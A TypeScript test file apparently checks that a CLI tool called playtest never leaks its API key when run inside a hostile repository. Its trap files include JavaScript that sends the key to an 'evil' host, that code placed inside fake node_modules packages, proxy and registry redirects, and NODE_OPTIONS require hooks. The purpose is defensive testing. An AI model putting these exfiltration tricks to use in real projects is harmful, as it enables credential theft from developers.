/** A hostile repository: files in the working directory cannot redirect the key to another service. */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, isAbsolute, join } from "node:path";
import { describe, expect, test } from "vitest";
import { playtest } from "../cli/program.ts";
import { freshFolder, runCli } from "../harness.ts";
import { answerOf, hostile } from "./hostile-server.ts";

const KEY = "pt_mgmt_0123456789abcdef";

/** Files of a repository that try to send a key to `evil`, by name. */
function traps(evil: string): Record<string, string> {
  const settings = JSON.stringify({
    baseUrl: evil,
    profile: "evil",
    key: KEY,
    proxy: evil,
    profiles: { default: { baseUrl: evil } },
  });
  const variables = [
    `PLAYTEST_BASE_URL=${evil}`,
    `PLAYTEST_KEY=${KEY}`,
    "PLAYTEST_PROFILE=evil",
    `HTTP_PROXY=${evil}`,
    `HTTPS_PROXY=${evil}`,
    `http_proxy=${evil}`,
    "NODE_EXTRA_CA_CERTS=evil.pem",
    "NODE_TLS_REJECT_UNAUTHORIZED=0",
    "NODE_OPTIONS=--require ./evil.cjs",
    "XDG_CONFIG_HOME=.",
  ].join("\n");
  const code = `require("http").get(${JSON.stringify(evil)} + "/" + process.env.PLAYTEST_KEY); module.exports = { baseUrl: ${JSON.stringify(evil)} };`;
  return {
    ".env": variables,
    ".env.local": variables,
    ".npmrc": `registry=${evil}\nproxy=${evil}\nhttps-proxy=${evil}\nnode-options=--require ./evil.cjs\nplaytest:base-url=${evil}\n`,
    ".playtestrc": settings,
    ".playtestrc.json": settings,
    ".config/playtestrc": settings,
    "playtest.config.js": code,
    "playtest.config.cjs": code,
    "evil.cjs": code,
    "package.json": JSON.stringify({ name: "x", playtest: { baseUrl: evil, key: KEY }, type: "module" }),
    "config.json": settings,
    "playtest/config.json": settings,
    "node_modules/@napi-rs/keyring/package.json": JSON.stringify({
      name: "@napi-rs/keyring",
      main: "index.js",
    }),
    "node_modules/@napi-rs/keyring/index.js": code,
    "node_modules/undici/package.json": JSON.stringify({ name: "undici", main: "index.js" }),
    "node_modules/undici/index.js": code,
    "node_modules/better-sqlite3/index.js": code,
    "index.js": code,
  };
}

function repository(files: Readonly<Record<string, string>>): string {
  const folder = freshFolder();
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), content);
  }
  return folder;
}

/** Creates a home folder with a logged-in profile. */
function loggedIn(baseUrl: string): string {
  const home = freshFolder();
  mkdirSync(join(home, "playtest"));
  const config = { profiles: { default: { baseUrl, keys: { management: { key: KEY, baseUrl } } } } };
  writeFileSync(join(home, "playtest", "config.json"), JSON.stringify(config));
  return home;
}

const places = (home: string) => ({ HOME: home, XDG_CONFIG_HOME: home, XDG_STATE_HOME: home });

async function both() {
  const evil = await hostile((socket) => void socket.end(answerOf('{"games":[],"items":[]}')));
  const own = await hostile(
    (socket) => void socket.end(answerOf('{"games":[],"items":[],"hasMore":false,"total":0}')),
  );
  return { evil, own };
}

describe("a real process in a hostile repository", () => {
  test.each([
    "games list",
    "builds list --game ember",
    "doctor",
    "export sessions --game ember --out exports",
  ])("%s sends the key only to its own service, and runs no code from the repository", async (line) => {
    const { evil, own } = await both();
    const cwd = repository({ ...traps(evil.url), "playtest.config.json": '{"game":"ember"}' });
    const { stderr } = await playtest(line.split(" "), { cwd, env: places(loggedIn(own.url)) });
    expect(String(stderr)).not.toContain(evil.url);
    expect([own.received().includes(KEY), evil.requests(), evil.received()]).toEqual([true, 0, ""]);
  });

  test("rejects a repository file with an address, a key, a profile or a proxy", async () => {
    const { evil, own } = await both();
    for (const name of ["baseUrl", "base-url", "profile", "key", "keys", "allowHttp"]) {
      const cwd = repository({ "playtest.config.json": JSON.stringify({ game: "ember", [name]: evil.url }) });
      const { exitCode, stderr } = await playtest(["sessions", "list"], {
        cwd,
        env: places(loggedIn(own.url)),
      });
      expect([name, exitCode]).toEqual([name, 3]);
      expect(stderr).toContain(`sets ${name}, which is not allowed in a repository file`);
    }
    for (const name of ["proxy", "httpsProxy", "ca", "out", "timeout", "BASEURL", "__proto__"]) {
      const cwd = repository({ "playtest.config.json": `{"game":"ember","${name}":"${evil.url}"}` });
      const { exitCode, stderr } = await playtest(["sessions", "list"], {
        cwd,
        env: places(loggedIn(own.url)),
      });
      expect([name, exitCode]).toEqual([name, 0]);
      expect(stderr).toContain("contains the unknown field");
    }
    expect([evil.requests(), evil.received()]).toEqual([0, ""]);
  });

  test("never sends a stored key to another address", async () => {
    const { evil, own } = await both();
    const env = places(loggedIn(own.url));
    for (const url of [
      evil.url,
      `${own.url}/other`,
      own.url.replace("127.0.0.1", "localhost"),
      `${own.url}@127.0.0.1:${evil.port}`,
    ]) {
      const given = await playtest(["games", "list", "--base-url", url], { env });
      const named = await playtest(["games", "list"], { env: { ...env, PLAYTEST_BASE_URL: url } });
      expect([url, given.exitCode, named.exitCode]).toEqual([url, 3, 3]);
    }
    expect([evil.requests(), own.requests()]).toEqual([0, 0]);
  });

  test("does not use the repository as the home folder if HOME is empty or relative", async () => {
    const cwd = freshFolder();
    for (const home of ["", ".", "x"]) {
      const { stdout } = await playtest(["config", "path"], { cwd, env: places(home) });
      expect([home, isAbsolute(String(stdout)), String(stdout).startsWith(cwd)]).toEqual([home, true, false]);
    }
  });
});

describe("a broken file", () => {
  const secret = "hunter2-s3cret";

  test.each([
    ["of settings of the repository", ["sessions", "list"], "playtest.config.json"],
    ["of settings named outright", ["gate", "1", "2", "--config", "rules.json"], "rules.json"],
    ["of settings that are begun", ["gate", "init"], "playtest.config.json"],
    ["of a baseline", ["gate", "@rules.json", "2"], "rules.json"],
  ])("%s is reported without its content", async (_what, argv, name) => {
    for (const content of [
      secret,
      `{"token": ${secret}}`,
      `{"a":1,\n"token":"${secret}"\n`,
      `"${secret}"`,
      `["${secret}"]`,
    ]) {
      const cwd = repository({ [name]: content });
      const env = {
        PLAYTEST_BASE_URL: "http://127.0.0.1:1",
        PLAYTEST_KEY: KEY,
        ...(name.startsWith("rules") ? { PLAYTEST_GAME: "ember" } : {}),
      };
      const { code, out, err } = await runCli([...argv, "--debug", "--json"], { cwd, env });
      expect([code, out + err]).toEqual([3, expect.stringContaining(name)]);
      expect(out + err).not.toMatch(/hunter|s3cret/);
    }
  });

  test("is reported with the line of the error if it is known", async () => {
    const cwd = repository({ "playtest.config.json": '{\n  "game": "ember",\n}\n' });
    const env = { PLAYTEST_BASE_URL: "http://127.0.0.1:1", PLAYTEST_KEY: KEY };
    const { err } = await runCli(["sessions", "list"], { cwd, env });
    expect(err).toContain("playtest.config.json is not valid JSON (line 3)");
    expect(readFileSync(join(cwd, "playtest.config.json"), "utf8")).toContain("ember");
  });
});
